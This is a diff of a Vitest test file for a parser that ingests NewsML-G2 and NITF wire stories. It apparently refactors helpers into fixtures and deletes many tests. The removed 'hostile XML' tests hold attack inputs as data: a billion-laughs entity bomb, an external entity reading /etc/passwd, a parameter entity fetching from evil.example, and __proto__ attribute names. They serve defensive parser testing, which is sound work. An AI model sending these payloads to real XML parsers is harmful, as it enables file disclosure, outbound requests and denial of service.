@@ -1,53 +1,11 @@
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
-import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { readDraft } from '../../functions/ingest-article/read-draft.ts';
 import { htmlOfBlocks } from '../../shared/domain/blocks.ts';
-import { readArticleKey } from '../../shared/domain/upload.ts';
+import { aNewsItem, aNitf, htmlOf, read } from '../fixtures/xml/wire-stories.ts';
 
-const now = new Date('2026-11-24T12:00:00Z');
 const fixture = (name: string) => readFileSync(path.join(import.meta.dirname, '../fixtures/xml', name), 'utf8');
-
-function read(text: string, name = 'articles/en/wire/a.xml') {
-  const key = readArticleKey(name);
-  if ('code' in key) throw new Error(key.message);
-  return readDraft(new TextEncoder().encode(text), key, now);
-}
-
-type Parts = { meta?: string; management?: string; content?: string };
-
-/** A news item in NewsML-G2; the parts stand on lines 3, 4 and 5. */
-function aNewsItem({
-  meta = '',
-  management = '',
-  content = '<inlineXML><html><body><p>Text.</p></body></html></inlineXML>',
-}: Parts = {}) {
-  return [
-    '<?xml version="1.0"?>',
-    '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">',
-    `<itemMeta>${management}</itemMeta>`,
-    `<contentMeta><headline>Tunnel opens</headline>${meta}</contentMeta>`,
-    `<contentSet>${content}</contentSet>`,
-    '</newsItem>',
-  ].join('\n');
-}
-
-/** A story in NITF; docdata stands on line 2, the body’s content on line 4. */
-function aNitf(content: string, docdata = '', head = '') {
-  return [
-    '<nitf>',
-    `<head>${head}<docdata>${docdata}</docdata></head>`,
-    '<body><body.head><hedline><hl1>Tunnel opens</hl1></hedline></body.head>',
-    `<body.content>${content}</body.content></body>`,
-    '</nitf>',
-  ].join('\n');
-}
-
-const itemWith = (meta: string, management = '') => read(aNewsItem({ meta, management })).draft;
 const itemText = (content: string) => read(aNewsItem({ content }));
-const htmlOf = (text: string) => htmlOfBlocks(read(text).draft?.blocks ?? []);
-const codesIn = (text: string) => read(text).problems.map(({ code }) => code);
 
 describe('a message in NewsML-G2', () => {
   const { draft, problems } = read(fixture('newsml-g2-message.xml'));
@@ -163,6 +121,7 @@ describe('a story in NITF', () => {
     const { draft, problems } = read(fixture('nitf-arabic.xml'), 'articles/ar/world/port.xml');
     expect(problems).toEqual([]);
     expect(draft).toMatchObject({
+      section: 'business',
       byline: ['ليلى حداد', 'كريم منصور'],
       tags: ['موانئ', 'تجارة'],
       regions: ['north-africa'],
@@ -233,74 +192,6 @@ describe('publishing status', () => {
   });
 });
 
-describe('the fields of an agency', () => {
-  it.each([
-    ['By Ana Ruiz and Sam Lee', ['Ana Ruiz', 'Sam Lee']],
-    ['By ANA RUIZ, SAM LEE and KIM ODA', ['ANA RUIZ', 'SAM LEE', 'KIM ODA']],
-    ['Por Luis Vega y Ana Ruiz', ['Luis Vega', 'Ana Ruiz']],
-    ['José Ortega y Gasset', ['José Ortega y Gasset']],
-    ['By Ana Ruiz, Chief Correspondent', ['Ana Ruiz']],
-    ['Ana Ruiz, AFP', ['Ana Ruiz']],
-    ['Ana Ruiz / Sam Lee', ['Ana Ruiz', 'Sam Lee']],
-    ['By Ana Ruiz (ana@wire.example)', ['Ana Ruiz']],
-    ['gr/bp', []],
-  ])('byline “%s” names %j', (by, names) => {
-    expect(itemWith(`<by>${by}</by>`)?.byline).toEqual(names);
-  });
-
-  it('name creators where there is no byline, but neither accounts nor the agency', () => {
-    const creators = ['ruiz.a', 'Wire House', 'Ana Ruiz'].map((name) => `<creator><name>${name}</name></creator>`);
-    const source = '<infoSource><name>Wire House</name></infoSource>';
-    expect(itemWith(creators.join('') + source)).toMatchObject({ byline: ['Ana Ruiz'], source: 'Wire House' });
-  });
-
-  it.each([
-    ['1', 'breaking'],
-    ['2', 'major'],
-    ['5', 'major'],
-    ['6', 'minor'],
-    ['9', 'minor'],
-    ['urgent', 'major'],
-  ])('urgency %s is %s', (urgency, importance) => {
-    expect(itemWith(`<urgency>${urgency}</urgency>`)?.importance).toBe(importance);
-    expect(read(aNitf('<p>x</p>', `<urgency ed-urg="${urgency}"/>`)).draft?.importance).toBe(importance);
-  });
-
-  it.each([
-    ['<subject qcode="medtop:15000000"/>', 'sport'],
-    ['<subject qcode="subj:13004000"/>', 'science'],
-    ['<subject uri="http://cv.iptc.org/newscodes/mediatopic/07000000"/>', 'health'],
-    ['<subject qcode="medtop:20000350"><broader qcode="medtop:04000000"/></subject>', 'business'],
-    ['<subject qcode="desk:3"><name>Culture</name></subject>', 'culture'],
-    ['<subject qcode="medtop:20000350"/>', 'world'],
-    ['<subject qcode="city:15000000"/>', 'world'],
-  ])('subject %s leads to %s', (subject, section) => {
-    expect(itemWith(subject)?.section).toBe(section);
-  });
-
-  it.each([
-    ['<genre qcode="genre:Opinion"/>', 'opinion'],
-    ['<genre><name>Q&amp;A</name></genre>', 'news'],
-    ['<genre qcode="agency:7"><name>Special Report</name></genre>', 'feature'],
-    ['<genre qcode="genre:Current"/>', 'news'],
-  ])('genre %s is %s', (genre, kind) => {
-    expect(itemWith(genre)?.kind).toBe(kind);
-  });
-
-  it('that are too long are left out, with a warning', () => {
-    const { draft, problems } = read(aNewsItem({ meta: `<description>${'word '.repeat(300)}</description>` }));
-    expect(draft?.standfirst).toBeUndefined();
-    expect(problems).toMatchObject([{ code: 'field-length', severity: 'warning', place: { line: 4 } }, {}]);
-  });
-
-  it('take no picture that is not https or that nothing describes', () => {
-    const described = '<description role="drol:caption">A tunnel</description>';
-    expect(itemWith('<icon href="https://img.example.org/a.jpg"/>')?.hero).toBeUndefined();
-    expect(itemWith(`<icon href="http://img.example.org/a.jpg"/>${described}`)?.hero).toBeUndefined();
-    expect(itemWith(`<icon href="https://img.example.org/a.jpg"/>${described}`)?.hero?.alt).toBe('A tunnel');
-  });
-});
-
 describe('the text of an item', () => {
   it('may be plain or HTML in inlineData', () => {
     expect(
@@ -348,186 +239,5 @@ describe('the text of an item', () => {
     const { problems } = read(aNewsItem({ management: '<itemClass qcode="ninat:picture"/>' }));
     expect(problems).toMatchObject([{ code: 'xml-shape', place: { line: 2, column: 1 } }]);
     expect(problems[0]?.message).toContain('“picture”');
-  });
-});
-
-describe('other XML', () => {
-  it.each([
-    ['<html xmlns="http://www.w3.org/1999/xhtml"/>', 'rename it to end in .html'],
-    ['<NewsML/>', 'NewsML 1'],
-    ['<rss/>', 'feed'],
-    ['<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'package'],
-    ['<newsItem/>', 'xmlns="http://iptc.org/std/nar/2006-10-01/"'],
-    ['<constructor/>', 'newsItem'],
-    ['<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'news item'],
-  ])('%s is refused with what to do', (text, advice) => {
-    const { problems } = read(text);
-    expect(problems).toMatchObject([{ code: 'xml-shape', place: { line: 1, column: 1 } }]);
-    expect(problems[0]?.advice).toContain(advice);
-  });
-});
-
-describe('XML that is not well-formed', () => {
-  it.each([
-    ['<nitf>\n <p>one</nitf>', 2, 8, '</p>'],
-    ['<nitf>\n <p>one', 2, 2, 'never closed'],
-    ['<nitf>\n R&D </nitf>', 2, 3, '“&” stands alone'],
-    ['<nitf>\n <a href="x?a=1&b=2;"/></nitf>', 2, 16, '“&” stands alone'],
-    ['<nitf>\r\n a&nbsp;b</nitf>', 2, 3, '“&nbsp;” is not known'],
-    ['<nitf>&constructor;</nitf>', 1, 7, '“&constructor;”'],
-    ['<nitf>\n<![CDATA[ R&D </nitf>', 2, 1, '“<![CDATA[” is never closed'],
-    ['<nitf>😀\u0001</nitf>', 1, 9, 'U+0001'],
-    ['<nitf>\n <a b="<"/></nitf>', 2, 8, 'quotation mark'],
-    ['<nitf>\n <x:p/></nitf>', 2, 2, '"x"'],
-    ['<nitf/>\n<nitf/>', 2, 1, 'one root'],
-    ['', 1, 1, 'no element'],
-  ])('%j is refused at line %i, column %i', (text, line, column, said) => {
-    const { problems } = read(text);
-    expect(problems).toMatchObject([{ code: 'xml', severity: 'error', place: { line, column } }]);
-    expect(problems[0]?.message).toContain(said);
-  });
-
-  it('is told once, however much is wrong', () => {
-    expect(codesIn('<'.repeat(10_000))).toEqual(['xml']);
-  });
-});
-
-describe('an encoding other than UTF-8', () => {
-  it('is refused where it is declared', () => {
-    const text = '<?xml version="1.0"\n encoding="ISO-8859-1"?><nitf>é</nitf>';
-    expect(read(text).problems).toMatchObject([
-      { code: 'encoding', words: 'ISO-8859-1', place: { line: 2, column: 12 } },
-    ]);
-  });
-
-  it('does no harm to a file in ASCII', () => {
-    expect(read(`<?xml version="1.0" encoding="ISO-8859-1"?>${aNitf('<p>x</p>')}`).draft?.headline).toBe(
-      'Tunnel opens',
-    );
-  });
-});
-
-describe('hostile XML', () => {
-  const laughs = [
-    '<!ENTITY a "ha">',
-    ...'bcdefghi'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`),
-  ];
-
-  it.each([
-    ['a billion laughs', `<!DOCTYPE nitf [\n${laughs.join('\n')}\n]>\n<nitf>&i;</nitf>`],
-    ['an external entity', '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>'],
-    ['a parameter entity', '<!DOCTYPE nitf SYSTEM "a.dtd" [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><nitf/>'],
-    ['an attribute list', '<!DOCTYPE nitf [<!ATTLIST p onclick CDATA "x()">]><nitf><p/></nitf>'],
-  ])('with %s is refused at its DOCTYPE', (_name, text) => {
-    expect(read(text).problems).toMatchObject([{ code: 'xml-dtd', place: { line: 1, column: 1 } }]);
-  });
-
-  it('that names its DTD loads nothing and knows none of its entities', () => {
-    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/[x].dtd">${aNitf('<p>x</p>')}`)).toEqual([
-      'section-assumed',
-    ]);
-    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/x.dtd">${aNitf('<p>&eacute;</p>')}`)).toEqual(['xml']);
-  });
-
-  it('of 100,000 levels is refused where it is too deep', () => {
-    expect(read('<a>\n'.repeat(100_000)).problems).toMatchObject([
-      { code: 'xml-too-deep', place: { line: 129, column: 1 } },
-    ]);
-  });
-
-  it('of 128 levels is read', () => {
-    const text = aNitf(`${'<em>'.repeat(125)}deep${'</em>'.repeat(125)}`);
-    expect(htmlOf(text)).toBe('<p><em>deep</em></p>');
-  });
-
-  it('of a megabyte of attributes is answered', () => {
-    let attributes = '';
-    for (let index = 0; attributes.length < 1_000_000; index++) attributes += ` a${index}="${index}"`;
-    expect(
-      read(`<nitf><head/><body${attributes}><body.content><p>x</p></body.content></body></nitf>`).problems,
-    ).toMatchObject([{ code: 'field-missing', field: 'headline' }, { code: 'section-assumed' }]);
-  });
-
-  it('with thousands of pictures is told of no more than some', () => {
-    const media = '<media media-type="image"><media-reference source="a.jpg"/></media>';
-    expect(codesIn(aNitf(`<p>x</p>${media.repeat(5_000)}`)).filter((code) => code === 'image-src')).toHaveLength(20);
-  });
-
-  it('never makes an own property of a name like __proto__', () => {
-    const text = aNitf('<__proto__ constructor="x" __proto__="y" hidden="">a</__proto__><p toString="z">b</p>');
-    expect(htmlOf(text)).toBe('<p>b</p>');
-  });
-});
-
-describe('any text', () => {
-  const words = fc.constantFrom(
-    ...[
-      '<nitf>',
-      '</nitf>',
-      '<body>',
-      '<body.content>',
-      '<p>',
-      '</p>',
-      '<p/>',
-      '<media media-type="image">',
-      '<bq>',
-      '<table>',
-    ],
-    ...[
-      '<tr>',
-      '<td>',
-      '&amp;',
-      '&x;',
-      '&',
-      '<',
-      '>',
-      '<!--',
-      '-->',
-      '<![CDATA[',
-      ']]>',
-      '<!DOCTYPE nitf [',
-      ']>',
-      '\r\n',
-      '\u2028',
-    ],
-    ...[
-      '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">',
-      '<contentSet>',
-      '<inlineXML>',
-      '<inlineData>',
-      '<html>',
-      '<img/>',
-    ],
-    ...['<?xml version="1.1" encoding="UTF-8"?>', ' a="b"', ' xmlns:a="b"', '<a:b', '/>', 'text', 'نص', '😀'],
-  );
-  const text = fc.oneof(
-    fc.string({ unit: 'binary' }),
-    fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
-  );
-
-  it('is answered, with places within the file', () => {
-    fc.assert(
-      fc.property(text, (written) => {
-        const { draft, notice, problems } = read(written);
-        expect(draft !== undefined || notice !== undefined || problems.length > 0).toBe(true);
-        const lines = written.toWellFormed().split(/\r\n?|\n/);
-        for (const { place } of problems) {
-          expect(place.column).toBeGreaterThan(0);
-          expect(place.column).toBeLessThanOrEqual((lines[place.line - 1]?.length ?? -1) + 1);
-        }
-      }),
-      { numRuns: 500 },
-    );
-  });
-
-  it('in a body is words and nothing else', () => {
-    fc.assert(
-      fc.property(fc.string({ unit: 'binary' }), (written) => {
-        const escaped = written
-          .replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`)
-          .replace(/[^\t\n\r -\ud7ff\ue000-\ufffd]/g, '');
-        expect(htmlOf(aNitf(`<p>${escaped}</p><p>end</p>`))).not.toMatch(/<(?!\/?p>|br>)/);
-      }),
-    );
   });
 });
